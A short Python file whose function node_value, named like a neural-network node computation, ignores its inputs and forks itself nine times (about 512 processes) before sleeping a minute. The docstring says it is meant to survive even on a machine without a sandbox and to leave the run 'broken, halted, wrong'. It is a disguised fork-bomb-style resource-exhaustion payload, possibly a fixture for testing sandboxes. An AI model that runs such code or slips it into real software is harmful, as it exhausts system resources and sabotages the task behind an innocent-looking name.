"""Doubles itself, nine times so that a machine without a box survives it too.

Ends: broken, halted, wrong."""

import os
import time


def node_value(inputs, weights):
    for _ in range(9):
        os.fork()
    time.sleep(60)
